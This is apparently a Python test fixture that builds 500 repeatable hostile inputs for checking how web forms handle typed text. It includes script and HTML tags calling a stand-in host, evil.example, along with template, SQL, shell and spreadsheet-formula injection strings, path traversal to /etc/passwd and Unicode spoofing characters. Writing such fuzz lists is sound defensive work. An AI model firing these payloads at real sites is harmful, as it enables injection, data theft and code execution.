"""Five hundred texts that somebody might put into a field to make a page run, lie or break."""

from __future__ import annotations

import random
import re
import unicodedata
from itertools import groupby, islice

#: What would stand in a page if a template ran what was typed.
RUN = "8641969"
_SEEDS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "{{ 1234567 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "${1234567*7}",
    "#{1234567*7}",
    "<%= 1234567*7 %>",
    "{# x #}",
    "%(name)s",
    "%s%s%s%n",
    "{0}{name}{left}",
    "%",
    "\\",
    "\\u003cscript\\u003e",
    "\\x3cb\\x3e",
    "'; DROP TABLE draft; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM study; --",
    "' UNION SELECT token FROM invitation --",
    "x' AND 1=CAST((SELECT 1) AS int)--",
    "\u202egnp.exe",
    "a\u202eb\u202cc",
    "\u2066x\u2069",
    "\u200b\u200c\u200d",
    "a\u200bb",
    "\ufeffx",
    "\u00ad" * 30,
    "\u2028x\u2029y",
    "\u0085x",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x07\x08\x7f",
    "\r\nSet-Cookie: a=b",
    "\r\n\r\n<script>alert(1)</script>",
    "a\rb",
    "a\tb",
    "\x0b\x0c",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("//evil.example")',
    "\uff1d1+1",
    "\u22121+1",
    "\t=1+1",
    "😀",
    "👩‍👩‍👧‍👦" * 5,
    "🇨🇳",
    "❤️",
    "\U0001f3f4\U000e0067\U000e007f",
    "e\u0301",
    "a" + "\u0301" * 200,
    "Z" + "\u0310\u0326" * 100,
    "\u1112\u1161\u11ab",
    "ﬁ",
    "Å",
    "\u212b",
    "ｗｉｄｅ",
    "٣٠",
    "³⁰",
    "三十",
    "Ⅻ",
    "\ufffd",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "\u0378",
    "w" * 400,
    "汉" * 400,
    "ا" * 300,
    "🜁" * 100,
    "w-" * 150,
    "https://evil.example/" + "a" * 200,
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '"',
    "'",
    "`",
    "<",
    ">",
    "&",
    "&amp;",
    "<!--",
    "]]>",
    "../../etc/passwd",
    "C:\\con",
    "file:///etc/passwd",
    "() { :; }; echo x",
    "$(id)",
    "`id`",
    "| id",
    "0x1e",
    "1e309",
    "-0",
    "9" * 300,
    "1\u00a0000",
    ",,,",
    ";;;",
    '"""',
    "a\nb\nc",
    "\n\n\n",
    " ",
    "  x  ",
)
_AROUND = (
    "{}",
    "x{}",
    "{}x",
    "需求 {} 供给",
    "{}\u202e",
    "\u200f{}",
    "{}{}",
    "\n{}\n",
    "\x1b{}",
    "<b>{}",
)
HOW_MANY = 500
_TAKEN_OUT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def hostile_texts() -> list[str]:
    """Return the texts, the same in every run; none has a NUL, which no form may carry."""
    same = random.Random(20261102)  # noqa: S311  (repeatable on purpose)
    texts = dict.fromkeys(_SEEDS)
    while len(texts) < HOW_MANY:
        texts[same.choice(_AROUND).replace("{}", same.choice(_SEEDS))] = None
    return list(texts)


def cleaned(text: str) -> str:
    """Return what is kept of a text, by other means than the program's."""
    taken = _TAKEN_OUT.sub("", text.replace("\r\n", "\n"))
    # Of the marks that pile up on one letter the first 30 are kept.
    piles = groupby(taken, key=lambda c: unicodedata.combining(c) > 0)
    shown = ("".join(islice(pile, 30 if is_pile else None)) for is_pile, pile in piles)
    return unicodedata.normalize("NFC", "".join(shown))
